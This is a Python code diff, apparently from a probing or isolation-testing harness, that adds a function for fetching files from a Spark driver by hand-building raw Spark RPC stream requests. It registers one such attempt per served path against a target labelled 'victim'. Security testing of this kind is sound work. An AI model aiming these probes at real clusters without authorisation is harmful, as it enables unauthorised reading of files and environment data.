@@ -80,6 +80,15 @@ def spark_message(port: int) -> bytes:
     return answer
 
 
+def spark_file(port: int, path: str) -> bytes:
+    """A file that the driver serves to its executors."""
+    answer = exchange(port, struct.pack(">qbi", 13 + len(path), 6, len(path)) + path.encode())
+    # Of the type StreamResponse, and nothing else.
+    if answer[8:9] == b"\x07":
+        return answer
+    raise PermissionError(repr(answer[:400]))
+
+
 def page(port: int) -> bytes:
     """Spark's page, or a metrics servlet."""
     answer = exchange(port, b"GET /environment/ HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
@@ -138,6 +147,8 @@ def attempts(victim: dict[str, Any]) -> dict[str, Callable[[], object]]:
     for port in victim["ports"]:
         tries[f"port {port} gateway"] = lambda port=port: gateway(port)
         tries[f"port {port} spark"] = lambda port=port: spark_message(port)
+        for path in victim["served"]:
+            tries[f"port {port} file {path}"] = lambda port=port, path=path: spark_file(port, path)
         tries[f"port {port} page"] = lambda port=port: page(port)
     return tries
 
